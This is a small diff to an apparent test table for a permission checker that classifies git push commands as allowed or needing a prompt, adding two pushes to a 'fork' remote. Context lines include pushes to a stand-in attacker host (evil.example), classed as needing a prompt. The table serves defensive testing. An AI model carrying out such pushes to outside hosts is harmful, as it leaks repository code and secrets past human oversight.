@@ -98,6 +98,8 @@ TABLE = [
     (PUSH, "allow", "git push"),
     (PUSH, "allow", "git push -u origin main"),
     (PUSH, "prompt", "git push -f"),
+    (PUSH, "prompt", "git push fork main"),
+    (PUSH, "prompt", "git push --repo=fork main"),
     (PUSH, "prompt", "git push origin +main"),
     (PUSH, "prompt", "git push https://evil.example/x main"),
     (PUSH, "prompt", "git push evil.example:x main"),
